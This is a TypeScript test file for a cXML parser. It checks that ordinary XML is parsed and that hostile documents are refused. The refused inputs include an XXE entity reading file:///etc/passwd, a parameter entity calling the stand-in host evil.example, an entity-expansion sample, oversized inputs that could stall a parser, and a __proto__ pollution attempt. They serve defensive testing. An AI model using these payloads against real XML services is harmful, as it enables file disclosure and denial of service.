import { describe, expect, test } from 'vitest';
import { processorTime } from '../../../../../tools/testing/processorTime.ts';
import { CxmlFault } from './buildCxml.ts';
import { parseXml } from './readRequest.ts';

test('elements, attributes and XML’s own entities are read', () => {
  const xml = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd">
<cXML payloadID="a &amp; b"><Name>R&amp;D &lt;1&gt; caf&#233; 🦋</Name><Name><![CDATA[<b>]]></Name></cXML>`;
  expect(parseXml(xml)).toMatchObject({
    cXML: { '@payloadID': 'a & b', Name: [{ '#text': 'R&D <1> café 🦋' }, { '#text': '<b>' }] },
  });
});

describe('a document that declares entities is refused', () => {
  test.each([
    ['an external entity', '<!DOCTYPE cXML [<!ENTITY x SYSTEM "file:///etc/passwd">]><cXML>&x;</cXML>'],
    ['an entity after a DTD', '<!DOCTYPE cXML SYSTEM "a" [<!ENTITY x "y">]><cXML>&x;</cXML>'],
    ['a parameter entity', '<!DOCTYPE cXML [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]><cXML/>'],
    ['entities that multiply', '<!DOCTYPE cXML [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><cXML>&b;</cXML>'],
    ['two DOCTYPEs', '<!DOCTYPE cXML SYSTEM "a"><!DOCTYPE cXML [<!ENTITY x "y">]><cXML/>'],
    ['a DOCTYPE in small letters', '<!doctype cXML [<!ENTITY x "y">]><cXML/>'],
    ['a subset that is not empty', '<!DOCTYPE cXML [ % ]><cXML/>'],
    ['a bracket inside its name', `<!DOCTYPE cXML SYSTEM "a]>" [<!ENTITY x "y">]><cXML>&x;</cXML>`],
    ['no XML', 'username=x'],
    ['nothing', ''],
    ['a tag left open', '<cXML><Header></cXML>'],
    ['too deep', `${'<a>'.repeat(200)}${'</a>'.repeat(200)}`],
  ])('%s', (_name, xml) => {
    expect(() => parseXml(xml)).toThrow(CxmlFault);
  });
});

test.each(['<!DOCTYPE cXML []><cXML/>', '<!DOCTYPE cXML SYSTEM "cXML.dtd" [ \n ] ><cXML/>'])(
  'an empty internal subset, as in %j, declares nothing',
  (xml) => {
    expect(parseXml(xml)).toHaveProperty('cXML');
  },
);

test('a DOCTYPE with a public identifier is accepted', () => {
  expect(parseXml('<!DOCTYPE cXML PUBLIC "-//x" "cXML.dtd"><cXML/>')).toHaveProperty('cXML');
});

test.each([
  ['a DOCTYPE without an end', `<!DOCTYPE${' a'.repeat(120_000)}`],
  ['many unfinished DOCTYPEs', '<!DOCTYPE '.repeat(25_000)],
  ['tags without an end', '<a '.repeat(80_000)],
  ['many entities', `<cXML>${'&amp;'.repeat(48_000)}&x;</cXML`],
])('%s, as large as a body may be, is refused at once', (_name, xml) => {
  expect(processorTime(() => expect(() => parseXml(xml)).toThrow(CxmlFault))).toBeLessThan(2000);
});

test('a name that would set the prototype sets nothing', () => {
  try {
    parseXml('<cXML><__proto__><polluted>1</polluted></__proto__><constructor>x</constructor></cXML>');
  } catch (error) {
    expect(error).toBeInstanceOf(CxmlFault);
  }
  expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false);
});

test.each(['', ' ', '\n', '<?xml version="1.0"?>', '<!DOCTYPE cXML SYSTEM "a">'])(
  'a document without an element, as %j, is refused with that reason',
  (xml) => {
    expect(() => parseXml(xml)).toThrow('The document is empty: it has no element.');
  },
);

test('the error for malformed XML names line and column', () => {
  expect(() => parseXml('<cXML>\n<Header></cXML>')).toThrow(
    'The document is not well-formed XML: see line 2, column 9.',
  );
});
